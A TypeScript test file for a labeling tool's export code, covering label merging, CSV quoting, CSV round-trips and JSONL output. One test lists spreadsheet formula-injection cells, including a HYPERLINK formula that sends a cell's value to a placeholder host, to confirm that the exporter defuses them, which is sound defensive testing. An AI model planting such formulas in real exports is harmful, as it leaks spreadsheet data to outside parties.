import { describe, expect, it } from 'vitest';
import { parseDelimited } from '../data/import/delimited';
import { parseGold } from '../data/import/values';
import type { Dataset } from '../data/types';
import { csvField, toCsv } from './csv';
import { labelsCsv, labelsJsonl, mergeLabels } from './labels';

const dataset: Dataset = {
  id: 'd',
  name: 'd',
  kind: 'factual',
  description: 'Is this answer correct?',
  items: [
    { id: 'a', group: 'g1', key: 'k1', question: 'Why, "exactly"?', claim: 'Two\r\nlines, one "quote"', gold: true },
    { id: 'b', group: 'g1', key: 'k2', question: ' leading space', claim: 'plain' },
    { id: 'c', group: 'g2', key: 'k3', question: 'q', claim: 'c' },
    { id: 'd', group: 'g2', key: 'k4', question: 'q', claim: 'd' },
  ],
};

const labels = mergeLabels(4, {
  rest: [
    { item: 0, label: false, confidence: 0.6 },
    { item: 2, label: true, confidence: 0.912345 },
  ],
  icm: [
    { item: 0, label: true, confidence: 0.8 },
    { item: 1, label: false, confidence: 0.7 },
  ],
  human: [{ item: 1, label: true }],
});

describe('labels export', () => {
  it('merges by precedence: human, then ICM, then label-the-rest', () => {
    expect(labels).toEqual([
      { item: 0, label: true, confidence: 0.8, provenance: 'icm' },
      { item: 1, label: true, confidence: null, provenance: 'human' },
      { item: 2, label: true, confidence: 0.912345, provenance: 'label-the-rest' },
      null,
    ]);
  });

  it('quotes CSV fields as RFC 4180 says', () => {
    expect(['a', 'a,b', 'say "hi"', 'x\ny', ' pad', ''].map(csvField)).toEqual(['a', '"a,b"', '"say ""hi"""', '"x\ny"', '" pad"', '']);
    expect(toCsv(['h'], [['1']], { bom: true })).toBe('\uFEFFh\r\n1\r\n');
  });

  it('writes cells that a spreadsheet would run as a formula with a leading apostrophe, numbers as they are', () => {
    const cells = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '-0.5', '+3', '1e-3', 'a=b'];
    expect(cells.map(csvField)).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"', "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", '-0.5', '+3', '1e-3', 'a=b']);
  });

  it('CSV parses back to the same labels and texts', () => {
    const csv = labelsCsv(dataset, labels);
    const r = parseDelimited(csv, 'csv');
    if (!r.ok) throw new Error(r.errors[0].message);
    const t = r.value;
    expect(t.columns).toEqual(['id', 'group', 'key', 'question', 'claim', 'label', 'confidence', 'provenance']);
    const col = (name: string) => t.columns.indexOf(name);
    expect(t.rows.map((row) => [row[col('id')], parseGold(row[col('label')]), row[col('confidence')], row[col('provenance')]])).toEqual([
      ['a', true, '0.8', 'icm'],
      ['b', true, '', 'human'],
      ['c', true, '0.9123', 'label-the-rest'],
    ]);
    expect(t.rows[0][col('claim')]).toBe(dataset.items[0].claim);
    expect(t.rows[0][col('question')]).toBe(dataset.items[0].question);
    expect(t.rows[1][col('question')]).toBe(' leading space');
  });

  it('comparison CSV names the two responses; JSONL has one record per labeled item', () => {
    const cmp: Dataset = { ...dataset, kind: 'comparison', items: dataset.items.map((it) => ({ ...it, response2: 'other' })) };
    expect(labelsCsv(cmp, labels).split('\r\n')[0]).toBe('id,group,key,question,response1,response2,label,confidence,provenance');
    expect(JSON.parse(labelsJsonl(cmp, labels).split('\n')[0])).toEqual({ id: 'a', group: 'g1', key: 'k1', question: 'Why, "exactly"?', response1: 'Two\r\nlines, one "quote"', response2: 'other', label: true, confidence: 0.8, provenance: 'icm' });
    const lines = labelsJsonl(dataset, labels).trimEnd().split('\n').map((l) => JSON.parse(l) as unknown);
    expect(lines).toEqual([
      { id: 'a', group: 'g1', key: 'k1', question: 'Why, "exactly"?', claim: 'Two\r\nlines, one "quote"', label: true, confidence: 0.8, provenance: 'icm' },
      { id: 'b', group: 'g1', key: 'k2', question: ' leading space', claim: 'plain', label: true, confidence: null, provenance: 'human' },
      { id: 'c', group: 'g2', key: 'k3', question: 'q', claim: 'c', label: true, confidence: 0.9123, provenance: 'label-the-rest' },
    ]);
  });
});
